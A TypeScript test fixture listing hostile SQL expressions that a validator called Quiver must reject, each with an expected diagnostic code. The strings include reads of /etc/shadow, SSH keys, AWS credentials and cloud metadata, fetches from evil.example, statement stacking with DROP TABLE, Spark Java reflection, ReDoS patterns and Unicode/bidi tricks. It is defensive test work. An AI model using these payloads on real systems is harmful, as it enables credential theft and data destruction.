/**
 * Hostile definitions: each one is what a malicious or careless pull request could put in
 * a `definition`, with the diagnostic code Quiver must answer with. None may compile, so
 * none produces SQL and nothing runs. Scope: the fields of HOSTILE_SCOPE.
 */
import type { DataType } from '../../controller/src/config/data-type.js';

export interface HostileCase {
  /** What the attack is. */
  name: string;
  /** The definition text (already decoded from its config file). */
  text: string;
  /** The code that must be among the diagnostics. */
  code: string;
  mode?: 'scalar' | 'aggregate';
}

export const HOSTILE_SCOPE: Array<{ name: string; type: DataType }> = [
  { name: 'message', type: 'STRING' },
  { name: 'src_ip', type: 'STRING' },
  { name: 'ts', type: 'TIMESTAMP' },
  { name: 'port', type: 'INT' },
  { name: '$1', type: 'STRING' },
];

const nest = (open: string, inner: string, close: string, n: number): string => open.repeat(n) + inner + close.repeat(n);

export const HOSTILE: HostileCase[] = [
  // ---- DuckDB: files, network, environment, SQL text ----------------------------------
  { name: 'DuckDB read_csv of a local file', text: "read_csv('/etc/passwd')", code: 'QV4021' },
  { name: 'DuckDB read_csv_auto from S3', text: "read_csv_auto('s3://victim-bucket/keys.csv')", code: 'QV4021' },
  { name: 'DuckDB read_text', text: "concat(message, read_text('/etc/shadow'))", code: 'QV4021' },
  { name: 'DuckDB read_blob of an SSH key', text: "length(read_blob('../../.ssh/id_rsa'))", code: 'QV4021' },
  { name: 'DuckDB read_parquet over httpfs', text: "read_parquet('https://evil.example/exfil.parquet')", code: 'QV4021' },
  { name: 'DuckDB read_json of cloud metadata', text: "read_json('http://169.254.169.254/latest/meta-data/iam/')", code: 'QV4021' },
  { name: 'DuckDB glob', text: "glob('/home/*/.aws/credentials')", code: 'QV4021' },
  { name: 'DuckDB sniff_csv', text: "sniff_csv('/etc/hosts')", code: 'QV4021' },
  { name: 'DuckDB parquet_scan', text: "parquet_scan('/data/other-tenant/*.parquet')", code: 'QV4021' },
  { name: 'DuckDB getenv', text: "getenv('AWS_SECRET_ACCESS_KEY')", code: 'QV4021' },
  { name: 'DuckDB current_setting', text: "current_setting('s3_secret_access_key')", code: 'QV4021' },
  { name: 'DuckDB query() runs SQL text', text: 'query("SELECT * FROM duckdb_secrets()")', code: 'QV4021' },
  { name: 'DuckDB query_table', text: "query_table('secrets')", code: 'QV4021' },
  { name: 'DuckDB ATTACH statement', text: "ATTACH '/tmp/evil.db' AS evil", code: 'QV4012' },
  { name: 'DuckDB COPY ... TO', text: "COPY (SELECT * FROM t) TO '/tmp/out.csv'", code: 'QV4012' },
  { name: 'DuckDB PRAGMA', text: 'PRAGMA database_list', code: 'QV4012' },
  { name: 'DuckDB INSTALL', text: 'INSTALL httpfs', code: 'QV4012' },
  { name: 'DuckDB LOAD', text: 'LOAD httpfs', code: 'QV4012' },
  { name: 'DuckDB SET', text: "SET s3_endpoint = 'evil.example'", code: 'QV4012' },
  { name: 'DuckDB :: cast syntax', text: 'message::BLOB', code: 'QV4009' },
  { name: 'schema-qualified table function', text: "main.read_csv('/etc/passwd')", code: 'QV4016' },
  { name: 'backquoted function name', text: "`read_csv`('/etc/passwd')", code: 'QV4021' },
  { name: 'upper-case function name', text: "READ_CSV('/etc/passwd')", code: 'QV4021' },

  // ---- statements, subqueries, set operations -----------------------------------------
  { name: 'statement stacking with ;', text: 'lower(message); DROP TABLE features', code: 'QV4009' },
  { name: 'trailing ; and ATTACH', text: "lower(message) ; ATTACH 'x.db'", code: 'QV4009' },
  { name: 'scalar subquery', text: '(SELECT password FROM users LIMIT 1)', code: 'QV4012' },
  { name: 'IN subquery', text: 'src_ip IN (SELECT ip FROM allow_list)', code: 'QV4012' },
  { name: 'EXISTS subquery', text: 'EXISTS (SELECT 1 FROM users)', code: 'QV4012' },
  { name: 'UNION after an expression', text: 'message UNION SELECT secret FROM vault', code: 'QV4012' },
  { name: 'FROM clause', text: 'secret FROM vault', code: 'QV4012' },
  { name: 'window clause', text: 'lower(message) OVER (PARTITION BY src_ip)', code: 'QV4012' },
  { name: 'subquery as a function argument', text: 'lower((SELECT secret FROM vault))', code: 'QV4012' },
  { name: 'VALUES table', text: "VALUES ('a')", code: 'QV4012' },

  // ---- Spark: JVM, session, environment -----------------------------------------------
  { name: 'Spark reflect', text: "reflect('java.lang.Runtime', 'getRuntime')", code: 'QV4021' },
  { name: 'Spark java_method', text: "java_method('java.lang.System', 'getenv', 'HOME')", code: 'QV4021' },
  { name: 'Spark try_reflect', text: "try_reflect('java.lang.Thread', 'sleep', 100000)", code: 'QV4021' },
  { name: 'Spark input_file_name', text: 'input_file_name()', code: 'QV4021' },
  { name: 'Spark current_user', text: 'current_user()', code: 'QV4021' },
  { name: 'Spark session_user', text: 'session_user()', code: 'QV4021' },
  { name: 'Spark version()', text: 'version()', code: 'QV4021' },
  { name: 'Spark spark_partition_id (nondeterministic)', text: 'spark_partition_id()', code: 'QV4021' },
  { name: 'Spark ${env:...} substitution in a string', text: "concat(message, '${env:AWS_SECRET_ACCESS_KEY}')", code: 'QV4015' },
  { name: 'Spark ${...} substitution in code', text: '${spark.sql.warehouse.dir}', code: 'QV4015' },
  { name: 'Spark ${...} in a backquoted name', text: '`${env:HOME}`', code: 'QV4015' },
  { name: 'Spark xpath (XML entities)', text: "xpath(message, '//a')", code: 'QV4021' },
  { name: 'Spark raise_error fails the job', text: "raise_error('boom')", code: 'QV4021' },
  { name: 'Spark explode (a generator)', text: "explode(split(message, ','))", code: 'QV4021' },
  { name: 'user lambda', text: "transform(split(message, ','), x -> upper(x))", code: 'QV4014' },
  { name: 'unknown function passes through nowhere', text: 'map_from_entries(message)', code: 'QV4020' },

  // ---- comments and quoting tricks ------------------------------------------------------
  { name: 'line comment hides the rest', text: "lower(message) -- ' || getenv('HOME')", code: 'QV4004' },
  { name: 'block comment', text: 'lower(message) /* reviewed */', code: 'QV4004' },
  { name: 'stray block comment end', text: 'message */', code: 'QV4004' },
  { name: 'comment glued to a minus', text: 'port--1', code: 'QV4004' },
  { name: 'unterminated string', text: "concat(message, 'abc)", code: 'QV4005' },
  { name: "backslash-quote ends a string in DuckDB but not in Spark", text: "concat('\\', getenv('HOME'), '')", code: 'QV4005' },
  { name: 'doubled quote (one string in DuckDB, two in Spark)', text: "concat(message, 'it''s')", code: 'QV4016' },
  { name: 'adjacent string literals', text: "concat('abc' 'def')", code: 'QV4016' },
  { name: 'unterminated backquoted name', text: '`src_ip', code: 'QV4006' },
  { name: 'escape that Spark silently drops', text: "message RLIKE '\\d+'", code: 'QV4007' },
  { name: 'NUL character through an escape', text: "concat(message, '\\u0000')", code: 'QV4007' },

  // ---- regular expressions and patterns -------------------------------------------------
  { name: 'catastrophic backtracking (ReDoS)', text: "message RLIKE '(a+)+$'", code: 'QV4026' },
  { name: 'lookbehind (RE2 has none)', text: "message RLIKE '(?<=user )\\\\w+'", code: 'QV4026' },
  { name: 'backreference', text: "regexp_extract(message, '(\\\\w)\\\\1', 1)", code: 'QV4026' },
  { name: 'pattern from data', text: 'message RLIKE concat(src_ip, \'.*\')', code: 'QV4025' },
  { name: 'datetime pattern from data', text: 'to_timestamp(message, src_ip)', code: 'QV4025' },
  { name: 'huge repetition', text: "message RLIKE 'a{100000}'", code: 'QV4026' },

  // ---- stars and aggregates -------------------------------------------------------------
  { name: 'bare star', text: '*', code: 'QV4013' },
  { name: 'star in sum', text: 'sum(*)', code: 'QV4013' },
  { name: 'count(DISTINCT *)', text: 'count(DISTINCT *)', code: 'QV4013' },
  { name: 'aggregate in a per-row field', text: 'count(*)', code: 'QV4040' },
  { name: 'nested aggregate', text: 'max(count(*))', code: 'QV4041', mode: 'aggregate' },
  { name: 'field outside an aggregate', text: 'port + count(*)', code: 'QV4042', mode: 'aggregate' },

  // ---- Unicode confusables ------------------------------------------------------------
  { name: 'Cyrillic o in a function name', text: 'l\u043ewer(message)', code: 'QV4003' },
  { name: 'Cyrillic a in a field name', text: 'upper(mess\u0430ge)', code: 'QV4003' },
  { name: 'fullwidth parentheses', text: 'lower\uff08message\uff09', code: 'QV4003' },
  { name: 'fullwidth letters', text: "\uff32\uff25\uff21\uff24_CSV('/etc/passwd')", code: 'QV4003' },
  { name: 'zero-width space in a name', text: 'lower(mes\u200bsage)', code: 'QV4003' },
  { name: 'zero-width joiner in a string', text: "message = 'adm\u200din'", code: 'QV4003' },
  { name: 'right-to-left override (Trojan Source)', text: "message = 'user\u202e' OR TRUE", code: 'QV4003' },
  { name: 'bidi isolate in code', text: 'lower(message)\u2066', code: 'QV4003' },
  { name: 'non-breaking space between tokens', text: "message\u00a0= 'x'", code: 'QV4003' },
  { name: 'soft hyphen in a name', text: "get\u00adenv('HOME')", code: 'QV4003' },
  { name: 'Greek question mark looks like ;', text: 'lower(message)\u037e', code: 'QV4003' },

  // ---- size and depth -----------------------------------------------------------------
  { name: '1 MB expression', text: "'" + 'a'.repeat(1024 * 1024) + "'", code: 'QV4001' },
  { name: '10,000 nested parentheses', text: nest('(', 'port', ')', 10_000), code: 'QV4001' },
  { name: '10,000 nested function calls', text: nest('lower(', 'message', ')', 10_000), code: 'QV4001' },
  { name: '500 nested parentheses (within the length limit)', text: nest('(', 'port', ')', 500), code: 'QV4002' },
  { name: '300 nested function calls (within the length limit)', text: nest('abs(', 'port', ')', 300), code: 'QV4002' },
  { name: 'a 200-term OR chain', text: Array.from({ length: 200 }, () => 'port = 1').join(' OR '), code: 'QV4002' },
  { name: '200 stacked NOTs', text: 'NOT '.repeat(200) + 'TRUE', code: 'QV4002' },
  { name: '300 stacked unary minus', text: '- '.repeat(300) + 'port', code: 'QV4002' },

  // ---- odd syntax ---------------------------------------------------------------------
  { name: 'system variable', text: '@@version', code: 'QV4009' },
  { name: 'positional parameter', text: 'lower(?)', code: 'QV4009' },
  { name: 'raw field $0', text: 'lower($0)', code: 'QV4009' },
  { name: 'hex literal', text: '0x7FFFFFFF', code: 'QV4008' },
  { name: 'cast to a type outside Quiver', text: 'CAST(message AS BINARY)', code: 'QV4033' },
  { name: 'INTERVAL literal', text: "ts + INTERVAL '1' DAY", code: 'QV4016' },
  { name: 'unknown field', text: 'lower(password_hash)', code: 'QV4022' },
];
